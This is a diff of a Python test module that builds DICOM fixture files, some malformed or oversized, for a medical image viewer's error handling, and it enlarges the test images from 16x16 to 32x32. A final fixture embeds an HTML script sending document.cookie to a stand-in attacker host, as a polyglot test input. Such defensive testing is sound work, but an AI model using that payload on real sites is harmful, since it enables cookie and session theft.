@@ -116,7 +116,7 @@ def _with_syntax(ds: Dataset, uid: str) -> bytes:
 
 
 def _dicom(pixels: np.ndarray | None = None, **attributes) -> Dataset:
-    ds = dicom_dataset(gradient(16, 16) if pixels is None else pixels, **attributes)
+    ds = dicom_dataset(gradient(32, 32) if pixels is None else pixels, **attributes)
     ds.PatientName, ds.PatientID = PATIENT
     return ds
 
@@ -153,7 +153,7 @@ def _other_formats() -> list[tuple[str, bytes, str]]:
     with zipfile.ZipFile(archive, "w") as zf:
         zf.writestr("IM0001.dcm", dataset_bytes(_dicom()))
     gif = io.BytesIO()
-    Image.fromarray(gradient(16, 16)).save(gif, format="GIF")
+    Image.fromarray(gradient(32, 32)).save(gif, format="GIF")
     return [
         ("empty.png", b"", "file is empty"),
         ("report.dcm", b"Radiology report for CORPUS^SECRET-PATIENT\nNo focal lesion.\n", UNSUPPORTED),
@@ -185,8 +185,8 @@ def _dicom_cases() -> list[tuple[str, bytes, str]]:
     huge.Rows = huge.Columns = 60000
     short = _dicom()
     short.PixelData = short.PixelData[:100]
-    volume = _dicom(gradient(16, 16))  # five frames of pixels, no NumberOfFrames
-    volume.PixelData = b"".join(gradient(16, 16, seed=i).tobytes() for i in range(5))
+    volume = _dicom(gradient(32, 32))  # five frames of pixels, no NumberOfFrames
+    volume.PixelData = b"".join(gradient(32, 32, seed=i).tobytes() for i in range(5))
     frames = _dicom()
     frames.NumberOfFrames = 5000
     empty_image = _dicom()
@@ -201,7 +201,7 @@ def _dicom_cases() -> list[tuple[str, bytes, str]]:
         ("unknown-transfer-syntax.dcm", _with_syntax(_dicom(), "1.2.3.4.5.6.7.8"), "unknown transfer syntax"),
         ("wrong-transfer-syntax.dcm", _with_syntax(_dicom(), JPEGBaseline8Bit), "DICOM pixel data is truncated or corrupt"),
         ("pixel-data-too-short.dcm", dataset_bytes(short), "DICOM pixel data is truncated or corrupt"),
-        ("volume-without-frame-count.dcm", dataset_bytes(volume), OK),  # first 16 x 16 slice shown
+        ("volume-without-frame-count.dcm", dataset_bytes(volume), OK),  # first 32 x 32 slice shown
         ("5000-frames.dcm", dataset_bytes(frames), "file has 5000 frames, the limit is 1000"),
         ("zero-rows.dcm", dataset_bytes(empty_image), "it has no pixels to show"),
         ("four-samples.dcm", dataset_bytes(four_samples), "4 samples per pixel is not supported"),
@@ -211,9 +211,9 @@ def _dicom_cases() -> list[tuple[str, bytes, str]]:
         ("truncated-pixels.dcm", whole[:-100], "DICOM pixel data is truncated or corrupt"),
         ("dicm-then-garbage.dcm", bytes(128) + b"DICM" + b"\xff" * 64, NO_PIXELS),
         ("bare-dataset.dcm", dataset_bytes(_dicom(), preamble=False), OK),
-        ("rgb.dcm", dataset_bytes(_dicom(np.dstack([gradient(16, 16)] * 3))), OK),
-        ("16bit.dcm", dataset_bytes(_dicom(gradient(16, 16, dtype=np.uint16))), OK),
-        ("signed-16bit-ct.dcm", dataset_bytes(_dicom(gradient(16, 16, dtype=np.int16), modality="CT")), OK),
+        ("rgb.dcm", dataset_bytes(_dicom(np.dstack([gradient(32, 32)] * 3))), OK),
+        ("16bit.dcm", dataset_bytes(_dicom(gradient(32, 32, dtype=np.uint16))), OK),
+        ("signed-16bit-ct.dcm", dataset_bytes(_dicom(gradient(32, 32, dtype=np.int16), modality="CT")), OK),
     ]
     for name, preamble in (
         ("polyglot-html.dcm", b"<html><script>fetch('//evil.example/'+document.cookie)</script></html>"),
